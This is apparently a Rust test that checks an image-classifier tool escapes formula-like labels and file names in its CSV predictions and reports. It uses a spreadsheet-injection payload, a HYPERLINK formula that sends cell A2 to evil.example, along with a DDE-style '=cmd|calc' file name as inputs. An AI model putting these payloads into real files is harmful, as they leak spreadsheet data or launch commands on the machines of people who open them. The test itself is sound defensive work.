//! Tables for spreadsheets: no name from outside becomes a formula.

use std::fs;

use crate::program::new_workspace;

/// A class and an image whose names are formulas, from the list of labels to the tables.
#[test]
fn formulas_are_guarded_in_every_table() {
    let workspace = new_workspace();
    workspace.images("photos", 40, 12);
    let class = "=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"cat\"\")";
    let lines = (0..12).map(|n| match n % 2 {
        0 => format!("{n}.png,\"{class}\"\n"),
        _ => format!("{n}.png,-1\n"),
    });
    let list = ["file,label\n".to_owned()].into_iter().chain(lines).collect::<String>();
    fs::write(workspace.path("photos/labels.csv"), list).unwrap();
    fs::copy(workspace.path("photos/1.png"), workspace.path("=cmd|calc.png")).unwrap();
    let more = ["--run-dir", "@run", "--set", "labels.validation=0.5"];
    workspace.end(workspace.folder_training("photos", &more)).with_code(0);

    let predict = ["predict", "@run", "=cmd|calc.png", "--threads", "1", "--out", "predictions.csv"];
    let resume = [&predict[..], &["--resume"]].concat();
    workspace.run(&predict).with_code(0);
    let rows = fs::read_to_string(workspace.path("predictions.csv")).unwrap();
    let row = rows.lines().nth(1).unwrap();
    assert!(row.starts_with("'=cmd|calc.png,"), "{rows}");
    // Six held-out labels are too few for 90% coverage, so the set holds both classes; which one leads is chance.
    let is_guarded =
        row.contains(&format!(",\"'{class}|-1\",")) || row.contains(&format!(",\"'-1|{class}\","));
    assert!(is_guarded, "{rows}");
    workspace.run(&resume).with_code(0).reports(&["0 images in addition to 1 from before"]);
    let names = ["predict", "@run", "=cmd|calc.png", "--threads", "1", "--format", "jsonl"];
    workspace.run(&names).with_code(0).prints(&["{\"path\":\"=cmd|calc.png\","]);

    workspace.run(&["report", "@run"]).with_code(0);
    let classes = fs::read_to_string(workspace.path("report/classes.csv")).unwrap();
    assert!(classes.contains(&format!("\n\"'{class}\",")) && classes.contains("\n-1,"), "{classes}");
    let reliability = fs::read_to_string(workspace.path("report/reliability.csv")).unwrap();
    assert!(reliability.contains("\n'@run,"), "{reliability}");
}
